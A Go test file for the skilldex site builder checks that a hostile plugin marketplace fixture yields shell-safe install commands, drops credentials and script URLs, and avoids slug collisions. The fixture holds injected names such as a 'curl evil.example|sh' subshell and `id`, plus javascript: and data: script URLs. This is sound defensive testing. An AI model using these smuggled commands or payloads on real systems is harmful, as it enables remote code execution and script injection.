package build_test

import (
	"context"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/skilldex/skilldex/build"
	"github.com/skilldex/skilldex/build/diag"
	"github.com/skilldex/skilldex/build/siteinfo"
	"github.com/skilldex/skilldex/internal/testutil"
	"golang.org/x/text/cases"
	"golang.org/x/text/unicode/norm"
)

// hostileMarketplaceTxtar is a marketplace from a stranger: names made to
// run commands in a shell when an install command is pasted, URLs that
// carry tokens or scripts, a name and a keyword whose slugs would be
// longer than a file name may be, and names whose slugs a file system that
// ignores case and Unicode normalisation (macOS, Windows) takes for one.
// Every plugin holds a skill, which must be published whatever its
// plugin's manifest says.
var hostileMarketplaceTxtar = `
-- .claude-plugin/marketplace.json --
{
  "name": "mallory-market",
  "owner": {"name": "Mallory"},
  "plugins": [
    {"name": "subshell$(curl${IFS}evil.example|sh)", "source": "./plugins/a"},
    {"name": "` + "`id`" + `;x|y&z", "source": "./plugins/b"},
    {"name": "-option", "source": "./plugins/c"},
    {"name": "tokens", "source": "./plugins/d",
     "homepage": "https://user:HOMEPAGE-TOKEN@example.com/home",
     "repository": "https://REPOSITORY-TOKEN@github.com/acme/tokens",
     "author": {"name": "Eve", "url": "https://eve:AUTHOR-TOKEN@example.com/"}},
    {"name": "scripts", "source": "./plugins/e", "homepage": "javascript:alert(1)", "repository": "data:text/html,<script>alert(1)</script>"},
    {"name": "remote-url", "source": {"source": "url", "url": "https://x-access-token:URL-TOKEN@github.com/acme/remote.git"}},
    {"name": "remote-subdir", "source": {"source": "git-subdir", "url": "deploy:SUBDIR-TOKEN@git.example.com:acme/remote.git", "path": "p"}},
    {"name": "remote-subdir-https", "source": {"source": "git-subdir", "url": "https://oauth2:HTTPS-SUBDIR-TOKEN@gitlab.com/acme/remote.git?private_token=QUERY-TOKEN", "path": "p"}},
    {"name": "bad-repo", "source": {"source": "github", "repo": "https://user:REPO-FIELD-TOKEN@github.com/acme/x"}},
    {"name": "string-url", "source": "https://user:STRING-SOURCE-TOKEN@github.com/acme/x"},
    {"name": "secret-link", "source": "./plugins/f"},
    {"name": "\ud55c", "source": "./plugins/h"},
    {"name": "\u1112\u1161\u11ab", "source": "./plugins/i"},
    {"name": "stra\u00dfe", "source": "./plugins/j"},
    {"name": "STRASSE", "source": "./plugins/k"},
    {"name": "` + strings.Repeat("long", 80) + `", "source": "./plugins/g", "keywords": ["` + strings.Repeat("+", 100) + `"]}
  ]
}
-- .agents/plugins/marketplace.json --
{
  "name": "codex$(id)",
  "plugins": [
    {"name": "subshell$(curl${IFS}evil.example|sh)", "source": {"source": "local", "path": "./plugins/a"}},
    {"name": "tokens", "source": {"source": "local", "path": "./plugins/d"}}
  ]
}
` + hostileSkill("a") + hostileSkill("b") + hostileSkill("c") + hostileSkill("d") + hostileSkill("e") + hostileSkill("f") + hostileSkill("g") +
	hostileSkill("h") + hostileSkill("i") + hostileSkill("j") + hostileSkill("k")

func hostileSkill(p string) string {
	return "-- plugins/" + p + "/skills/skill-" + p + "/SKILL.md --\n---\nname: skill-" + p +
		"\ndescription: A skill of plugin " + p + ". Use when testing.\n---\nBody.\n"
}

// hostileSecrets must appear in no file of the site.
var hostileSecrets = []string{"REPO-FIELD-TOKEN", "STRING-SOURCE-TOKEN", "HOMEPAGE-TOKEN", "REPOSITORY-TOKEN", "AUTHOR-TOKEN", "URL-TOKEN", "SUBDIR-TOKEN", "QUERY-TOKEN", "OUTSIDE-SECRET"}

// buildHostileMarketplace writes the hostile marketplace, with a
// plugin.json that is a symbolic link to a file outside the sources,
// builds it and returns the site and the build's findings.
func buildHostileMarketplace(t *testing.T) (string, []diag.Diagnostic) {
	t.Helper()
	dir := t.TempDir()
	secret := filepath.Join(dir, "outside.json")
	if err := os.WriteFile(secret, []byte(`{"name": "secret-link", "description": "OUTSIDE-SECRET"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	src := testutil.WriteTxtar(t, filepath.Join(dir, "src"), hostileMarketplaceTxtar)
	link := filepath.Join(src, "plugins", "f", ".claude-plugin", "plugin.json")
	if err := os.MkdirAll(filepath.Dir(link), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(secret, link); err != nil {
		t.Skipf("no symbolic links here: %v", err)
	}
	info, err := siteinfo.New("Hostile", "https://example.org/")
	if err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "public")
	opt := build.Options{Output: out, Site: info, NoMinify: true}
	opt.Sources = []string{src}
	opt.SourceNames = map[string]string{src: "mallory/market"}
	res, err := build.Build(context.Background(), opt)
	if err != nil {
		t.Fatal(err)
	}
	return out, res.Catalog.Diagnostics
}

// commandWord is what the last word of an install command (NAME@MARKET,
// or the repository added) may hold: nothing a shell or Claude Code's
// command line treats specially.
var commandWord = regexp.MustCompile(`^[A-Za-z0-9][A-Za-z0-9._/:-]*(@[A-Za-z0-9][A-Za-z0-9._-]*)?$`)

func TestHostileMarketplace(t *testing.T) {
	site, ds := buildHostileMarketplace(t)
	plugins := readSite(t, site, "api/v1/plugins.json")

	t.Run("every skill is published", func(t *testing.T) {
		for _, p := range []string{"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k"} {
			readSite(t, site, "skills/skill-"+p+"/index.html")
		}
	})

	t.Run("install commands are safe to paste", func(t *testing.T) {
		var commands []string
		for _, m := range regexp.MustCompile(`<pre id="sd-install[^"]*"><code>([^<]*)</code>`).FindAllStringSubmatch(readSite(t, site, "plugins/tokens/index.html"), -1) {
			commands = append(commands, m[1])
		}
		if len(commands) == 0 {
			t.Fatal("plugins/tokens/ has no install command")
		}
		for _, m := range regexp.MustCompile(`"((?:/plugin|codex plugin) [^"]*)"`).FindAllStringSubmatch(plugins, -1) {
			commands = append(commands, m[1])
		}
		for _, c := range commands {
			f := strings.Fields(c)
			if !commandWord.MatchString(f[len(f)-1]) {
				t.Errorf("install command %q holds characters a shell treats specially", c)
			}
		}
		if strings.Contains(plugins, "codex plugin") {
			t.Error("plugins.json has Codex commands, though the Codex marketplace's name is not safe to paste")
		}
		for _, code := range []string{"subshell", "`id`", "-option", "codex$(id)"} {
			found := false
			for _, d := range ds {
				found = found || d.Code == "plugin-name-not-kebab" && strings.Contains(d.Message, code) && strings.Contains(d.Message, "install command")
			}
			if !found {
				t.Errorf("no finding says that %s... gets no install command", code)
			}
		}
	})

	t.Run("no credentials or outside files", func(t *testing.T) {
		err := filepath.WalkDir(site, func(p string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return err
			}
			b, err := os.ReadFile(p)
			for _, s := range hostileSecrets {
				if strings.Contains(string(b), s) {
					t.Errorf("%s holds %s", p[len(site):], s)
				}
			}
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
		for _, d := range ds {
			for _, s := range hostileSecrets {
				if strings.Contains(d.Message, s) {
					t.Errorf("finding %s quotes %s: %s", d.Code, s, d.Message)
				}
			}
		}
		// The links are kept without the credentials.
		for _, want := range []string{`"homepage": "https://example.com/home"`, `"repository": "https://github.com/acme/tokens"`, `"source_url": "https://github.com/acme/remote"`} {
			if !strings.Contains(plugins, want) {
				t.Errorf("plugins.json lacks %s", want)
			}
		}
	})

	t.Run("no script URLs", func(t *testing.T) {
		for _, bad := range []string{"javascript:", "data:text/html"} {
			if strings.Contains(plugins, bad) {
				t.Errorf("plugins.json holds %s", bad)
			}
		}
	})

	t.Run("slugs one file system name each", func(t *testing.T) {
		entries, err := os.ReadDir(filepath.Join(site, "plugins"))
		if err != nil {
			t.Fatal(err)
		}
		seen := map[string]string{}
		for _, e := range entries {
			k := cases.Fold().String(norm.NFC.String(e.Name()))
			if other, ok := seen[k]; ok {
				t.Errorf("plugins/%s/ and plugins/%s/ may be one folder where case or normalisation is ignored", other, e.Name())
			}
			seen[k] = e.Name()
		}
		if len(entries) != 11+1 { // and index.html
			t.Errorf("plugins/ has %d entries, want 12", len(entries))
		}
	})

	t.Run("long name", func(t *testing.T) {
		var found bool
		entries, err := os.ReadDir(filepath.Join(site, "plugins"))
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range entries {
			if len(e.Name()) > 100 {
				t.Errorf("plugins/%s/: a folder name longer than file systems allow", e.Name())
			}
			found = found || strings.HasPrefix(e.Name(), "longlong")
		}
		if !found {
			t.Error("the plugin with a long name has no page")
		}
		tags, err := os.ReadDir(filepath.Join(site, "tags"))
		if err != nil {
			t.Fatal(err)
		}
		found = false
		for _, e := range tags {
			found = found || strings.HasPrefix(e.Name(), "plus-plus")
		}
		if !found {
			t.Error("the keyword of pluses has no tag page")
		}
	})
}
